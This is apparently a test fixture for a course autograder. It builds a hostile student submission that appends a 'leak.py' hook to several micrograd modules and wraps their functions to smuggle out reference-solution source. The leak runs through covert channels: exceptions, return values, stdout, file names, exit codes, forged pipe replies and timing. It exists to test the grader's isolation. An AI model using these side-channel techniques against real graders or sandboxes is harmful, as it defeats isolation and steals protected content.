"""A submission that tries to smuggle the reference solution out of a restricted worker.

It is bob (examples/submissions/bob: bugs in engine.py, losses.py and optim.py), so lessons 3, 4
and 6 run on the course's engine, losses and optim. Its extra module `leak.py` reads every file
of the package it was imported from — the reference modules included — and every API function of
nn.py, losses.py, data.py and train.py sends slices of that text out through one channel per
call: exception messages and type names, returned strings and objects, returned numbers, printed
output, file names, exit codes, forged replies on the worker's pipe, timing, and which checks
fail. Every slice starts with MARK, so a test can see whether a channel carried anything.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from grader.paths import EXAMPLES

MARK = "EXFIL"
MAGIC = 7777.0  # returned numbers are MAGIC + a byte / 1000

LEAK = r'''
"""Reads the package it sits in and leaks it, one channel per call."""
import json
import os
import sys
import time

MARK = "EXFIL"
HERE = os.path.dirname(os.path.abspath(__file__))


def _package_text():
    # The answer key first: the modules a restricted worker may hold from the course.
    texts = []
    first = ["engine.py", "optim.py", "losses.py", "nn.py"]
    for name in first + sorted(set(os.listdir(HERE)) - set(first)):
        if name.endswith(".py") and name != "leak.py":
            try:
                with open(os.path.join(HERE, name), encoding="utf-8") as handle:
                    texts.append(handle.read())
            except OSError:
                pass
    return "\n".join(texts)


SECRET = _package_text()
CALLS = [0]


def chunk(n, size=200):
    # A random slice: each fresh worker (they restart after a crash) leaks other parts.
    start = int.from_bytes(os.urandom(4), "big") % max(1, len(SECRET))
    return MARK + SECRET[start:start + size].replace("\n", " | ")


def byte(n):
    return ord(SECRET[n % len(SECRET)]) if SECRET else 0


def _replies_fd():
    argv = sys.argv
    return int(argv[argv.index("--replies") + 1]) if "--replies" in argv else None


def _forge_reply(n):
    fd = _replies_fd()
    if fd is not None:
        line = json.dumps({"ok": False, "kind": "request", "message": chunk(n)}) + "\n"
        os.write(fd, line.encode())
    os._exit(0)


def _side_effects(n):
    print(chunk(n))
    print(chunk(n + 1), file=sys.stderr)
    for folder in (os.getcwd(), "/tmp"):
        try:
            name = chunk(n, 40).replace("/", "_").replace(" ", "_")[:200]
            open(os.path.join(folder, name), "w").close()
        except OSError:
            pass


def channel(fn, Value):
    def leaking(*args, **kwargs):
        CALLS[0] += 1
        n = CALLS[0]
        _side_effects(n)
        mode = n % 10
        if mode == 0:
            raise RuntimeError(chunk(n))
        if mode == 1:
            raise type(chunk(n, 40).replace(" ", "_"), (Exception,), {})(chunk(n + 2))
        if mode == 2:
            return chunk(n)
        if mode == 3:
            return type(chunk(n, 40).replace(" ", "_"), (), {})()
        if mode == 4:
            return Value(MAGIC + byte(n) / 1000)
        if mode == 5:
            _forge_reply(n)
        if mode == 6:
            os._exit(1 + byte(n) % 200)
        if mode == 7:
            time.sleep(byte(n) / 4000)
        if mode == 8 and byte(n) % 2:
            raise ValueError("a one bit")
        return fn(*args, **kwargs)
    leaking.__name__ = getattr(fn, "__name__", "leaking")
    return leaking


def infect(namespace):
    """Wrap every public function and every method of every class defined in `namespace`."""
    from micrograd.engine import Value

    for name, obj in list(namespace.items()):
        if name.startswith("_") or getattr(obj, "__module__", None) != namespace["__name__"]:
            continue
        if isinstance(obj, type):
            for attr, member in list(vars(obj).items()):
                if callable(member) and attr not in ("__init__", "__repr__"):
                    setattr(obj, attr, channel(member, Value))
        elif callable(obj):
            namespace[name] = channel(obj, Value)
'''.replace("MAGIC", repr(MAGIC))

INFECT = "\nfrom micrograd import leak as _leak\n_leak.infect(globals())\n"
INFECTED = ("nn.py", "losses.py", "data.py", "train.py")


def build(folder: Path) -> Path:
    """folder/micrograd: bob's package with leak.py, every later lesson's module infected."""
    package = Path(folder) / "micrograd"
    shutil.copytree(
        EXAMPLES / "bob" / "micrograd", package, ignore=shutil.ignore_patterns("__pycache__")
    )
    (package / "leak.py").write_text(LEAK)
    for name in INFECTED:
        with open(package / name, "a") as handle:
            handle.write(INFECT)
    return package
